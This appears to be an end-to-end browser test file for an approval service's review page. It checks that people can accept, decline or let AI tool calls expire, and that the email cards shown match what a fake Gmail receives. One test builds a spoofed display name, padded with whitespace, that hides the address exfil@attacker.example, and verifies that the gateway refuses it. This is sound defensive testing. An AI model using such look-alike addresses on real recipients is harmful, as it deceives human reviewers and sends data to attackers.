// The whole flow in a real browser: a confirmed tool raised through the gateway appears on the approval
// service's review page; a person accepts (one write), declines (none) or lets it expire (none); what the card
// shows of a send is, character for character, what the Gmail fake receives (issue 13 #3).
import { join } from "node:path";
import type { Locator, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { listPrompts, mintSession } from "../../approvals/dev-api.mjs";
import { CARD_UPDATE_MS, chromiumForFile, gotoTraced, SHOTS } from "./browser";
import { bearer, connectLegacy, connectModern, FAKES, nothingMore, recorder, TOKENS, textOf } from "./helpers";

const chromium = chromiumForFile();

async function openReview(reviewUrl: string, width = 1280, height = 900): Promise<Page> {
  const page = await chromium.browser.newPage({ viewport: { width, height } });
  await gotoTraced(page, reviewUrl);
  await page.getByTestId("dev-mode-banner").waitFor();
  return page;
}

async function raise(slug: string, note: string, elicitationUrl: string) {
  const client = await connectLegacy(slug, { ...bearer(TOKENS.session), "x-elicitation-url": elicitationUrl });
  const result = client.callTool("demo_write", { note }).finally(() => client.close());
  return result;
}

/** The card's caller values as [label, value] pairs, in order, exactly as the page shows them. */
async function valuePairs(card: Locator): Promise<[string, string][]> {
  const labels = await card.getByTestId("prompt-value-label").allTextContents();
  const values = await card.getByTestId("prompt-value").allTextContents();
  return labels.map((label, i) => [label, values[i] ?? ""]);
}

interface OutboxMessage {
  id: string;
  subject: string;
  to: string[];
  cc: string[];
  bcc: string[];
  attachments: { filename: string }[];
}
const outbox = async () => (await (await fetch(`${FAKES}/gmail/_fake/outbox`)).json()) as OutboxMessage[];

const writesOf = async (note: string) => (await recorder.events()).filter((e) => e.kind === "demo_write" && e.note === note);

describe("the review page", () => {
  it("shows the prompt a confirmed tool raised; ticking the box and accepting lets exactly one write through", async () => {
    const session = await mintSession();
    const note = `accept-${Date.now()}`;
    const page = await openReview(session.reviewUrl);
    const call = raise("echo-confirmed", note, session.elicitationUrl);
    const card = page.getByTestId("prompt").first();
    await card.waitFor({ timeout: 15_000 });
    // The caller's value is shown as text on its own line, under the slug's heading.
    await expect.poll(async () => await card.getByTestId("prompt-message").innerText(), { timeout: CARD_UPDATE_MS }).toContain(note);
    expect(await card.getByTestId("prompt-message").innerText()).toContain("echo-confirmed");
    await page.screenshot({ path: join(SHOTS, "review-pending.png"), fullPage: true });
    expect(await card.getByTestId("prompt-accept").isDisabled()).toBe(true);
    await card.getByTestId("prompt-confirm").check();
    await card.getByTestId("prompt-accept").click();
    const result = await call;
    expect(textOf(result)).toBe("Recorded.");
    expect(await writesOf(note)).toHaveLength(1);
    await expect.poll(async () => card.getAttribute("data-status"), { timeout: CARD_UPDATE_MS }).toBe("accept");
    await page.screenshot({ path: join(SHOTS, "review-accepted.png"), fullPage: true });
    // The Access service token travelled on the create and on every poll.
    const [prompt] = await listPrompts(session.sessionId);
    expect(prompt?.createdWithAccess).toBe(true);
    expect(prompt?.polls).toBeGreaterThan(0);
    expect(prompt?.accessPolls).toBe(prompt?.polls);
    await page.close();
  });

  it("declining on the page sends nothing", async () => {
    const session = await mintSession();
    const note = `decline-${Date.now()}`;
    const page = await openReview(session.reviewUrl, 390, 844);
    const call = raise("echo-confirmed", note, session.elicitationUrl);
    const card = page.getByTestId("prompt").first();
    await card.waitFor({ timeout: 15_000 });
    await page.screenshot({ path: join(SHOTS, "review-phone.png"), fullPage: true });
    await card.getByTestId("prompt-decline").click();
    const result = await call;
    expect(textOf(result)).toMatch(/declin/i);
    await nothingMore();
    expect(await writesOf(note)).toHaveLength(0);
    await page.close();
  });

  it("a prompt nobody answers expires: the page says so and nothing is written", async () => {
    const session = await mintSession();
    const note = `expire-${Date.now()}`;
    const page = await openReview(session.reviewUrl);
    // echo-brief's window is 6 s less its margin (4.5 s), so the prompt expires while the page watches.
    const call = raise("echo-brief", note, session.elicitationUrl);
    const card = page.getByTestId("prompt").first();
    await card.waitFor({ timeout: 15_000 });
    await expect.poll(async () => card.getAttribute("data-status"), { timeout: 15_000 }).toBe("expired");
    await page.screenshot({ path: join(SHOTS, "review-expired.png"), fullPage: true });
    const outcome = await call.then(
      (r) => textOf(r),
      (e: Error) => e.message,
    );
    expect(outcome).toMatch(/expired|timed out/i);
    await nothingMore();
    expect(await writesOf(note)).toHaveLength(0);
    await page.close();
  });

  it("a person approves a send_email on the page, and the Gmail fake records exactly that one message", async () => {
    const session = await mintSession();
    const subject = `Browser-approved ${Date.now()}`;
    const page = await openReview(session.reviewUrl);
    const client = await connectModern("gmail-rw-external", { ...bearer(TOKENS.session), "x-elicitation-url": session.elicitationUrl });
    const call = client.callTool("send_email", { to: ["ada@example.com"], cc: ["bob@example.com"], subject, text: "Hello from the review page test." }).finally(() => client.close());
    const card = page.getByTestId("prompt").first();
    await card.waitFor({ timeout: 15_000 });
    const message = await card.getByTestId("prompt-message").innerText();
    expect(message).toContain("gmail-rw-external: This will send an email from person@example.com");
    // Each caller value sits in its own labelled, boxed cell (docs/rules.md R-PROMPT-12).
    expect(await valuePairs(card)).toEqual([
      ["To:", "ada@example.com"],
      ["Cc:", "bob@example.com"],
      ["Subject:", subject],
      ["Text body:", "32 B"],
    ]);
    // The body is the caller's free text and is never shown.
    expect(message).not.toContain("Hello from the review page test.");
    await page.screenshot({ path: join(SHOTS, "review-send-email.png"), fullPage: true });
    await card.getByTestId("prompt-confirm").check();
    await card.getByTestId("prompt-accept").click();
    const result = await call;
    expect(result.isError, textOf(result)).not.toBe(true);
    const outbox = ((await (await fetch(`${FAKES}/gmail/_fake/outbox`)).json()) as { subject: string; to: string[]; cc: string[] }[]).filter((m) => m.subject === subject);
    expect(outbox).toHaveLength(1);
    expect(outbox[0]).toMatchObject({ to: ["ada@example.com"], cc: ["bob@example.com"] });
    await page.close();
  });

  it("issue 13 #3: a send whose display name is the look-alike attack is refused before any prompt, and nothing is sent", async () => {
    const session = await mintSession();
    const subject = `Look-alike ${Date.now()}`;
    const page = await openReview(session.reviewUrl);
    const attack = `"Jane Doe ‹jane.doe@company.example›${" ".repeat(170)}…" <exfil@attacker.example>`;
    const client = await connectModern("gmail-rw-external", { ...bearer(TOKENS.session), "x-elicitation-url": session.elicitationUrl });
    const result = await client.callTool("send_email", { to: [attack], subject, text: "Pay the invoice." }).finally(() => client.close());
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/^Not done: the display name given for exfil@attacker\.example contains @, < or > or a character that looks like one/);
    // The name is never shown, not even in the refusal.
    expect(textOf(result)).not.toContain("jane.doe@company.example");
    await nothingMore();
    expect(await listPrompts(session.sessionId)).toEqual([]);
    expect(await page.getByTestId("prompt").count()).toBe(0);
    await expect.poll(async () => page.getByTestId("empty-state").isVisible(), { timeout: CARD_UPDATE_MS }).toBe(true);
    await page.screenshot({ path: join(SHOTS, "review-lookalike-refused.png"), fullPage: true });
    expect((await outbox()).filter((m) => m.subject === subject || m.to.includes("exfil@attacker.example"))).toEqual([]);
    await page.close();
  });

  it("issue 13 #3: the recipients, attachment names and subject on the card are, character for character, what the Gmail fake receives", async () => {
    const session = await mintSession();
    const subject = `Contract — final version ${Date.now()}`;
    const page = await openReview(session.reviewUrl, 390, 844);
    const args = {
      to: ["Ada Lovelace <ada@example.com>", "Grace Hopper <grace.hopper@navy.example.com>"],
      cc: ['"Lovelace, Byron" <byron@example.com>'],
      subject,
      text: "The signed copy and the annex are attached.",
      attachments: [
        { filename: "contract-final.pdf", content_base64: btoa("%PDF-1.4 contract") },
        { filename: "annex A.txt", content_base64: btoa("annex") },
      ],
    };
    const client = await connectModern("gmail-rw-external", { ...bearer(TOKENS.session), "x-elicitation-url": session.elicitationUrl });
    const call = client.callTool("send_email", args).finally(() => client.close());
    const card = page.getByTestId("prompt").first();
    await card.getByTestId("prompt-values").waitFor({ timeout: 15_000 });
    const pairs = await valuePairs(card);
    await page.screenshot({ path: join(SHOTS, "review-send-exact.png"), fullPage: true });
    expect(pairs).toEqual([
      ["To:", "ada@example.com (name: Ada Lovelace)"],
      ["To:", "grace.hopper@navy.example.com (name: Grace Hopper)"],
      ["Cc:", "byron@example.com (name: Lovelace, Byron)"],
      ["Subject:", subject],
      ["Text body:", "43 B"],
      ["Attachment:", "contract-final.pdf (application/pdf, 17 B)"],
      ["Attachment:", "annex A.txt (text/plain, 5 B)"],
    ]);
    // The body is not a value the call's card shows, and the card shows no value the call does not carry.
    expect(await card.getByTestId("prompt-message").innerText()).not.toContain("signed copy");
    await card.getByTestId("prompt-confirm").check();
    await card.getByTestId("prompt-accept").click();
    const result = await call;
    expect(result.isError, textOf(result)).not.toBe(true);

    const [sent, ...more] = (await outbox()).filter((m) => m.subject === subject);
    expect(more).toEqual([]);
    if (sent === undefined) throw new Error("the Gmail fake received no message with the approved subject");
    // Addresses and names as shown, against what arrived: the address first, then the name.
    const shownAddresses = (label: string) => pairs.filter(([l]) => l === label).map(([, v]) => v.split(" (name: ")[0]);
    expect(sent.to).toEqual(shownAddresses("To:"));
    expect(sent.cc).toEqual(shownAddresses("Cc:"));
    expect(sent.bcc).toEqual([]);
    expect(sent.subject).toBe(pairs.find(([l]) => l === "Subject:")?.[1]);
    expect(sent.attachments.map((a) => a.filename)).toEqual(pairs.filter(([l]) => l === "Attachment:").map(([, v]) => v.replace(/ \([^,]+, \d+ B\)$/, "")));
    // The names as Gmail holds the sent message, read back through the same mount.
    const reader = await connectModern("gmail-rw-external", bearer(TOKENS.session));
    const read = await reader.callTool("get_message", { message_id: sent.id }).finally(() => reader.close());
    const headers = JSON.parse(textOf(read)) as { to: string; cc: string };
    const named = (header: string) => [...header.matchAll(/"((?:[^"\\]|\\.)*)" <([^>]+)>/g)].map((m) => `${m[2]} (name: ${(m[1] as string).replace(/\\(.)/g, "$1")})`);
    expect(named(headers.to)).toEqual(pairs.filter(([l]) => l === "To:").map(([, v]) => v));
    expect(named(headers.cc)).toEqual(pairs.filter(([l]) => l === "Cc:").map(([, v]) => v));
    await page.close();
  });
});
